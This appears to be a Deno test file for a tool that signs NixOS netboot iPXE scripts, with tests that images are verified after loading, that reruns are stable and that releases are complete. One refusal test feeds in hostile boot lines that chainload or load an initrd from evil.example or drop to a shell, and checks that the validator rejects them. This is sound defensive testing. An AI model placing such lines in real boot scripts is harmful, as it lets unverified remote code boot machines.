/**
 * The scripts of a release signed for iPXE, made from nixpkgs' netboot.ipxe: each image
 * verified right after it is loaded, one failure line and no boot, and every other command
 * refused rather than signed. Pure steps: no nix, no server.
 */
import assert from "node:assert/strict";
import * as fs from "node:fs/promises";
import * as os from "node:os";
import * as path from "node:path";
import {
  asBuiltForIpxe,
  madeForIpxe,
  signedScriptName,
  signForIpxe,
  verifyingIpxe,
  verifyingScripts,
} from "../scripts/lib/ipxe.ts";
import { checkSigningIdentity } from "../scripts/lib/ipxe_sign.ts";
import { judgeRelease, renderSums } from "../scripts/lib/release_index.ts";
import { sha256Hex } from "../scripts/lib/hash.ts";
import { type FileAsset } from "../scripts/lib/nix.ts";
import { ReleaseError } from "../scripts/lib/run.ts";
import { makeCa, makeCodeSigning } from "./boot/pki.ts";
import { startTestRun } from "./run_helpers.ts";

/** nixpkgs' netboot.ipxe as the netboot bundle builds it. */
const NETBOOT_IPXE = `#!ipxe
# Use the cmdline variable to allow the user to specify custom kernel params
# when chainloading this script from other iPXE scripts like netboot.xyz
kernel bzImage init=/nix/store/0000000000000000000000000000000a-nixos-system-runner/init initrd=initrd nohibernate loglevel=4 \${cmdline}
initrd initrd
boot
`;

const KERNEL = "netboot-x86_64-linux.bzImage";
const INITRD = "netboot-x86_64-linux.initrd";
const BASE = "https://git.example.org/ops/runners/releases/download/boot-v1.0.0/";

/** The release's files by the names the built script uses. */
function locateIn(base: string) {
  const files: Record<string, string> = { bzImage: KERNEL, initrd: INITRD };
  return (file: string) => files[file] === undefined ? undefined : `${base}${files[file]}`;
}

Deno.test("a built netboot.ipxe becomes a boot directory's script that verifies each image right after loading it and boots nothing on a failure", () => {
  const made = verifyingIpxe("netboot-x86_64-linux.built.ipxe", NETBOOT_IPXE, locateIn(""));
  assert.equal(
    made.text,
    `#!ipxe
# Use the cmdline variable to allow the user to specify custom kernel params
# when chainloading this script from other iPXE scripts like netboot.xyz
set checking ${KERNEL}
kernel ${KERNEL} init=/nix/store/0000000000000000000000000000000a-nixos-system-runner/init initrd=${INITRD} nohibernate loglevel=4 \${cmdline} || goto refused
imgverify ${KERNEL} ${KERNEL}.sig || goto refused
set checking ${INITRD}
initrd ${INITRD} || goto refused
imgverify ${INITRD} ${INITRD}.sig || goto refused
boot || goto refused
:refused
echo Not booting: \${checking} failed to load or verify
exit 1
`,
  );
  assert.deepEqual(made.images, [KERNEL, INITRD]);
  for (const line of made.text.split("\n").filter((l) => l.startsWith("echo"))) {
    assert.ok(line.length < 80, `${line} fits a console line`);
  }
});

Deno.test("the release's own script loads each image and its signature from the release's download URLs", () => {
  const made = verifyingIpxe("netboot-x86_64-linux.built.ipxe", NETBOOT_IPXE, locateIn(BASE));
  const lines = made.text.split("\n");
  assert.ok(
    lines.includes(
      `kernel ${BASE}${KERNEL} init=/nix/store/0000000000000000000000000000000a-nixos-system-runner/init initrd=${INITRD} nohibernate loglevel=4 \${cmdline} || goto refused`,
    ),
    made.text,
  );
  // iPXE names a fetched image after its URL's last segment: imgverify takes that name.
  assert.ok(lines.includes(`imgverify ${KERNEL} ${BASE}${KERNEL}.sig || goto refused`));
  assert.ok(lines.includes(`imgverify ${INITRD} ${BASE}${INITRD}.sig || goto refused`));
  assert.deepEqual(made.images, [KERNEL, INITRD]);
});

Deno.test("a script line that could load or run anything unverified is refused by line, and nothing is signed", () => {
  const refusal = (text: string) => {
    try {
      verifyingIpxe("netboot-x86_64-linux.built.ipxe", text, locateIn(""));
    } catch (error) {
      assert.ok(error instanceof ReleaseError, String(error));
      return error.message;
    }
    assert.fail(`signed: ${text}`);
  };
  const cases: [string, RegExp][] = [
    [
      "chain http://evil.example/next.ipxe",
      /line 6 \("chain http:\/\/evil\.example\/next\.ipxe"\), is not a kernel, initrd or bare boot line/,
    ],
    ["imgfetch initrd", /line 6 \("imgfetch initrd"\), is not a kernel, initrd or bare boot line/],
    [
      "initrd http://evil.example/initrd",
      /line 6 \("initrd http:\/\/evil\.example\/initrd"\), loads http:\/\/evil\.example\/initrd, which is not a file of the release/,
    ],
    [
      "initrd initrd || shell",
      /line 6 \("initrd initrd \|\| shell"\), holds more than one command, or a comment after its command/,
    ],
    ["initrd initrd # a second one", /holds more than one command, or a comment after its command/],
    [
      "initrd --name extra initrd",
      /line 6 \("initrd --name extra initrd"\), is not a kernel, initrd or bare boot line/,
    ],
    ["boot bzImage", /line 6 \("boot bzImage"\), is not a kernel, initrd or bare boot line/],
    [":retry", /line 6 \(":retry"\), is not a kernel, initrd or bare boot line/],
    [
      "sanboot iscsi:10.0.0.1::::iqn.2020-01.org.example:disk",
      /is not a kernel, initrd or bare boot line/,
    ],
  ];
  for (const [line, message] of cases) {
    const text = NETBOOT_IPXE.replace("initrd initrd\n", `initrd initrd\n${line}\n`);
    const said = refusal(text);
    assert.match(said, message);
    assert.match(said, /^netboot-x86_64-linux\.built\.ipxe, line 6 /);
    assert.match(said, /; nothing was signed$/);
  }
  assert.equal(
    refusal("#!ipxe\necho nothing to boot\n"),
    'netboot-x86_64-linux.built.ipxe, line 2 ("echo nothing to boot"), is not a kernel, initrd or bare boot line: release-boot signs for iPXE only scripts of kernel, initrd and boot lines (as nixpkgs\' netboot.ipxe); nothing was signed',
  );
  assert.equal(
    refusal("#!ipxe\n# nothing\n"),
    "netboot-x86_64-linux.built.ipxe loads no kernel or initrd: there is nothing to sign for iPXE",
  );
});

/** The netboot bundle of one system as its build names it, with the built script on disk. */
async function netbootAssets(dir: string, system = "x86_64-linux"): Promise<FileAsset[]> {
  const built = path.join(dir, `${system}-netboot.ipxe`);
  await fs.writeFile(built, NETBOOT_IPXE);
  const asset = (name: string, file: string, sha256: string, size = 1000): FileAsset => ({
    name,
    path: file,
    target: "netboot",
    system,
    drvPath: `/nix/store/x-netboot-${system}.drv`,
    size,
    sha256,
  });
  return [
    asset(`netboot-${system}.bzImage`, "/nix/store/k-linux/bzImage", "a".repeat(64)),
    asset(`netboot-${system}.initrd`, "/nix/store/i-initrd/initrd", "b".repeat(64)),
    asset(
      `netboot-${system}.built.ipxe`,
      built,
      sha256Hex(new TextEncoder().encode(NETBOOT_IPXE)),
    ),
  ];
}

async function scratch(test: (dir: string) => Promise<void>): Promise<void> {
  const dir = await fs.mkdtemp(path.join(os.tmpdir(), "release-boot-ipxe-scripts-"));
  try {
    await test(dir);
  } finally {
    await fs.rm(dir, { recursive: true, force: true });
  }
}

const readBuilt = (built: FileAsset) => fs.readFile(built.path, "utf8");

Deno.test("signing a release for iPXE adds, per built script, the two verifying scripts and a .sig for every file a machine loads, the same bytes each time", () =>
  scratch(async (dir) => {
    const ca = await makeCa(dir, "Runner boot CA");
    const signer = await makeCodeSigning(dir, "Runner boot signing", ca);
    const identity = checkSigningIdentity(signer.key, signer.cert + ca.cert, new Date());
    const assets = [
      ...await netbootAssets(dir),
      ...await netbootAssets(dir, "aarch64-linux"),
    ];
    const signed = await signForIpxe(startTestRun(), assets, readBuilt, BASE, identity);
    assert.deepEqual(signed.map((file) => file.name).sort(), [
      ...["aarch64-linux", "x86_64-linux"].flatMap((system) => [
        `netboot-${system}.bzImage.sig`,
        `netboot-${system}.dir.ipxe`,
        `netboot-${system}.dir.ipxe.sig`,
        `netboot-${system}.initrd.sig`,
        `netboot-${system}.ipxe`,
        `netboot-${system}.ipxe.sig`,
      ]),
    ]);
    for (const file of signed) {
      assert.equal(file.sha256, sha256Hex(file.bytes!), `${file.name}: its checksum is its bytes'`);
      assert.equal(file.size, file.bytes!.length);
    }
    const x86 = signed.filter((file) => file.system === "x86_64-linux");
    const dirScript = x86.find((file) => file.name === signedScriptName(assets[2].name))!;
    assert.match(
      new TextDecoder().decode(dirScript.bytes),
      new RegExp(`^imgverify ${KERNEL} `, "m"),
    );
    assert.equal(
      dirScript.path,
      assets[2].path,
      "manifest.json says the script was made from the built one",
    );

    const again = await signForIpxe(startTestRun(), assets, readBuilt, BASE, identity);
    assert.deepEqual(
      again.map((file) => [file.name, file.sha256]),
      signed.map((file) => [file.name, file.sha256]),
      "a rerun signs to the same bytes, so it uploads nothing",
    );
    const { scripts } = await verifyingScripts(assets, readBuilt, BASE);
    assert.deepEqual(
      scripts.map((file) => [file.name, file.sha256]),
      signed.filter((file) => file.name.endsWith(".ipxe")).map((file) => [file.name, file.sha256]),
      "verify makes the same scripts without the key",
    );
  }));

Deno.test("only signing's own files count as made for iPXE; a draft's stray copies of them are left out of its completeness", () => {
  for (
    const name of ["a.bzImage.sig", "netboot-x86_64-linux.ipxe", "netboot-x86_64-linux.dir.ipxe"]
  ) {
    assert.ok(madeForIpxe(name), name);
  }
  for (
    const name of [
      "netboot-x86_64-linux.built.ipxe",
      "netboot-x86_64-linux.bzImage",
      "SHA256SUMS.sig",
      "manifest.json",
    ]
  ) {
    assert.ok(!madeForIpxe(name), name);
  }
  const manifest = {
    assets: [
      { name: "netboot-x86_64-linux.ipxe", size: 300 },
      { name: "netboot-x86_64-linux.bzImage", size: 9 },
    ],
  };
  const copies = [
    { name: "netboot-x86_64-linux.bzImage", size: 9 },
    { name: "netboot-x86_64-linux.ipxe", size: 300 },
    // What a --finalize stopped after its uploads left: the verifying script and a signature.
    { name: "netboot-x86_64-linux.ipxe", size: 650 },
    { name: "netboot-x86_64-linux.bzImage.sig", size: 1500 },
  ];
  assert.deepEqual(asBuiltForIpxe(copies, manifest), [
    { name: "netboot-x86_64-linux.bzImage", size: 9 },
    { name: "netboot-x86_64-linux.ipxe", size: 300 },
  ]);
});

Deno.test("a run holding the iPXE key judges a release complete only when its index lists every signed file as that key makes it", () => {
  const entry = (name: string, sha256: string) => ({
    name,
    size: 1,
    sha256,
    target: "netboot",
    system: "x86_64-linux",
    storePath: "/nix/store/x",
    drvPath: "/nix/store/x.drv",
  });
  const judge = (listed: { name: string; sha256: string }[]) => {
    const assets = listed.map(({ name, sha256 }) => entry(name, sha256));
    const index = {
      manifests: [{
        copy: { id: 1, name: "manifest.json", size: 1 } as never,
        manifest: { assets } as never,
        sha256: "0".repeat(64),
      }],
      sums: [{ copy: { id: 2 } as never, text: renderSums(assets) }],
    };
    return judgeRelease(
      assets.map(({ name }) => ({ name, size: 1 })),
      index,
      undefined,
      undefined,
      [{ name: `${KERNEL}.sig`, sha256: "c".repeat(64) }],
    ).index;
  };
  assert.deepEqual(judge([{ name: KERNEL, sha256: "a".repeat(64) }]), [
    `SHA256SUMS does not list ${KERNEL}.sig as signed for iPXE`,
  ]);
  assert.deepEqual(
    judge([{ name: KERNEL, sha256: "a".repeat(64) }, {
      name: `${KERNEL}.sig`,
      sha256: "d".repeat(64),
    }]),
    [`SHA256SUMS does not list ${KERNEL}.sig as signed for iPXE`],
    "a signature by another key, or over other bytes, is not this key's",
  );
  assert.deepEqual(
    judge([{ name: KERNEL, sha256: "a".repeat(64) }, {
      name: `${KERNEL}.sig`,
      sha256: "c".repeat(64),
    }]),
    [],
  );
});
